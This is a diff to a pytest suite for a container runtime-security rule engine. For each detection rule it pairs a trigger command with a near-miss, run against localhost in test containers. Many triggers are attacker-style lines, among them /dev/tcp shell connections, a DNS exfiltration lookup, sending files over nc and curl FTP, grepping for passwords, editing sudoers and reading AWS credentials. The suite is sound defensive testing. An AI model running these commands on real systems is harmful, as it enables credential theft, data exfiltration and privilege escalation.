@@ -3,7 +3,6 @@ miss that must not trigger it."""
 import os
 import pty
 import subprocess
-import time
 
 import pytest
 
@@ -12,6 +11,7 @@ from agent.pipeline import Pipeline
 from agent.rules.engine import RuleEngine
 from agent.config import DEFAULT_RULES
 from testbed import runc
+from testbed.judge import fired, script_items
 
 
 def _host_file(path, text="x\n", mode=0o600):
@@ -33,6 +33,8 @@ WGET = "wget -q -T 1 -O /dev/null http://127.0.0.1:{}/ ; true"   # busybox wget:
 NC = "nc -w 1 {} {} < /dev/null; true"                              # a real connect()
 COPY = "cp /bin/busybox /home/app/{0} && /home/app/{0} ; true"
 DEEP = "d=/tmp/{0} && mkdir -p $d && touch $d/f && cat $d/f"
+LISTEN = ("python3 -c 'import socket;s=socket.socket();s.setsockopt(1,2,1);s.bind((\"127.0.0.1\",{0}));s.listen();"
+          "c,_=s.accept();c.sendall(b\"x\");c.close()' & sleep 0.5; ")      # Debian image
 SEVENTY = " ".join(f"/tmp/f{i}" for i in range(70))                  # past 64 arguments
 
 # rule -> (trigger script, near-miss script, setup run from the host before both)
@@ -118,8 +120,11 @@ CASES = {
                                                None),
     "Sensitive directories archived": ("tar cf /tmp/a.tar /etc/hostname",
                                        "mkdir -p /tmp/data && tar cf /tmp/b.tar /tmp/data", None),
-    "Download tool run in a container": (WGET.format(1), "echo wget", None),
-    "Package manager run in a container": (COPY.format("apk"), COPY.format("apkinfo"), None),
+    "Download tool run in a container": ("wget -q -O /tmp/page http://127.0.0.1:1/ ; true",
+                                         WGET.format(1), None),    # a health check
+    "Package manager run in a container": (
+        "cp /bin/busybox /home/app/apk && /home/app/apk add curl ; true",
+        "cp /bin/busybox /home/app/apk && /home/app/apk info ; true", None),
     "Netcat or socat run in a container": ("nc 127.0.0.1 1 < /dev/null; true",
                                            COPY.format("ncal"), None),
     "Connection to a proxy or Tor port": (NC.format("127.0.0.1", 9050),
@@ -161,6 +166,69 @@ CASES = {
     # padding is resolved away (file.path is the kernel's); only a file deeper than the
     # resolved path keeps (511 bytes) is cut. The near miss: 4 levels of 100, a requested
     # path past 255 bytes (cut) whose resolved path fits.
+    # rules over behaviour, issue 22 (DEBIAN: on the Debian image, for bash, python, sudo)
+    "Shell started by a program that is not a shell": (
+        "cp /usr/local/bin/probe /tmp/awk && /tmp/awk spawn /bin/sh -c 'echo hi'",
+        "cp /usr/local/bin/probe /tmp/worker && /tmp/worker spawn /bin/sh -c 'echo hi'", None),
+    "Script piped into a shell": ("echo 'echo hi' | sh", "echo x | sh -c 'read l'", None),
+    "Network connection made by a shell": ("bash -c 'echo > /dev/tcp/127.0.0.1/9'; true",
+                                           "bash -c 'echo > /dev/null'", "DEBIAN"),
+    "Connection to a non-standard port by a network tool": (
+        NC.format("127.0.0.1", 4445), NC.format("127.0.0.1", 8080), None),
+    "Download through a raw network socket": (
+        LISTEN.format(7010) + "bash -c 'cat < /dev/tcp/127.0.0.1/7010 > /tmp/x'; true",
+        LISTEN.format(7010) + "bash -c 'cat < /dev/tcp/127.0.0.1/7010 > /dev/null'; true",
+        "DEBIAN"),
+    "Data sent over DNS or ICMP": (
+        "nslookup c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.x.example 127.0.0.1; true",
+        "nslookup api.example.com 127.0.0.1; true", None),
+    "File sent over a raw network connection": (
+        "(nc -l -p 7011 > /dev/null &) ; sleep 0.3; nc -w 1 127.0.0.1 7011 < /etc/hostname",
+        "(nc -l -p 7011 > /dev/null &) ; sleep 0.3; nc -w 1 127.0.0.1 7011 < /dev/null",
+        None),
+    "File copied out with a transfer client": (
+        "curl -s -m 1 -T /etc/hostname ftp://127.0.0.1:1/; true",
+        "curl -s -m 1 -T /etc/hostname http://127.0.0.1:1/; true", "DEBIAN"),
+    "Network configuration discovery in a container": (
+        "cat /etc/resolv.conf > /dev/null 2>&1; true", "cat /etc/hostname > /dev/null", None),
+    "Network connections discovery in a container": (
+        "cat /proc/net/tcp > /dev/null", "cat /proc/uptime > /dev/null", None),
+    "User discovery in a container": ("/usr/bin/whoami > /dev/null",
+                                      "/usr/bin/id -u > /dev/null", None),
+    "Local accounts listed in a container": ("cat /etc/passwd > /dev/null",
+                                             "cat /etc/hostname > /dev/null", None),
+    "Security software discovery in a container": (
+        "/bin/grep -i falco /etc/hostname; true", "/bin/grep -i root /etc/hostname; true",
+        None),
+    "Container runtime or orchestration discovery": (
+        "cat /proc/1/cgroup > /dev/null", "cat /proc/1/comm > /dev/null", None),
+    "Search for setuid files or capabilities": (
+        "/usr/bin/find / -xdev -perm -4000 > /dev/null 2>&1; true",
+        "/usr/bin/find /etc -name hostname > /dev/null; true", None),
+    "Search for credentials in files": (
+        "/bin/grep -ri password /etc > /dev/null; true",
+        "/bin/grep -ri hostname /etc > /dev/null; true", None),
+    "Kernel module load attempted from a container": (
+        "echo x > /tmp/x.ko; /sbin/insmod /tmp/x.ko; true", "/sbin/modprobe -n x; true", None),
+    "Sudoers changed in a container": (
+        "mkdir -p /etc/sudoers.d && echo 'app ALL=(ALL) ALL' > /etc/sudoers.d/app",
+        "cat /etc/sudoers > /dev/null 2>&1; true", None),
+    "Sudo rights probed in a container": ("sudo -n -l > /dev/null; true",
+                                          "sudo -u app true", "DEBIAN"),
+    "Hidden file or directory created": ("echo x > /tmp/.x", "echo x > /tmp/x", None),
+    "Program named like a system daemon or kernel thread": (
+        "cp /bin/busybox /tmp/sshd && /tmp/sshd true; true",
+        "cp /bin/busybox /tmp/sshx && /tmp/sshx true; true", None),
+    "Service stopped in a container": (      # procps: busybox runs pkill without an exec
+        "cp /bin/sleep /tmp/worker; /tmp/worker 30 > /dev/null 2>&1 & sleep 0.2; "
+        "pkill -x worker; true",
+        "cp /bin/sleep /tmp/worker; /tmp/worker 30 > /dev/null 2>&1 & sleep 0.2; "
+        "kill $(pgrep -x worker)", "DEBIAN"),
+    "Container main process or every process signalled to stop": (
+        "kill -STOP 1; kill -CONT 1", "sleep 30 > /dev/null 2>&1 & kill -TERM $!", None),
+    "Credential file read by a reader": (
+        "cat /root/.aws/credentials > /dev/null", "cat /root/.aws/README > /dev/null",
+        _files("/root/.aws/credentials", "/root/.aws/README")),
     "Path too long to check in a container": (
         DEEP.format("/".join(["x" * 100] * 6)), DEEP.format("/".join(["x" * 100] * 4)), None),
 }
@@ -202,30 +270,18 @@ def _run(c, script):
 
 
 def _matches(pipe, engine, c, script, items):
-    """Run script in c, then a sentinel; return the rules that matched its events."""
-    _run(c, script)
-    sentinel = f"sentinel-{time.monotonic_ns()}"
-    c.exec("/bin/true", sentinel)
-    deadline = time.monotonic() + 10
-    seen = False
-    while time.monotonic() < deadline and not seen:
-        for item in pipe.step():
-            if item.container is None or item.container.id != c.id:
-                continue
-            if item.kind == "exec" and item.event.args == ("/bin/true", sentinel):
-                seen = True
-            items.append(item)
-        time.sleep(0.02)
-    assert seen, "the sentinel exec never arrived"
-    names = set()
-    for item in items:
-        names |= {r.name for r in engine.ruleset.evaluate(item)}
-    return names
+    """Run script in c (then a sentinel: testbed/judge.py); the rules its events matched."""
+    if script == "TTY":
+        _run(c, script)
+        script = "true"
+    got = script_items(pipe, c, script)
+    items += got
+    return {r.name for r, _ in fired(engine, got)}
 
 
 @pytest.mark.parametrize("rule", sorted(CASES))
 def test_rule_fires_on_the_behaviour_and_not_on_its_near_miss(rule, pipe, engine, containers,
-                                                              tmp_path):
+                                                              debian_containers, tmp_path):
     trigger, miss, setup = CASES[rule]
     if setup == "VOLUME":
         vol = tmp_path / "volume"
@@ -233,6 +289,8 @@ def test_rule_fires_on_the_behaviour_and_not_on_its_near_miss(rule, pipe, engine
         import shutil
         shutil.copy2("/bin/busybox", vol / "tool")
         c = containers(network=True, volumes=[(str(vol), "/data")])
+    elif setup == "DEBIAN":
+        c = debian_containers(network=True)
     else:
         c = containers(network=True)
         if setup:
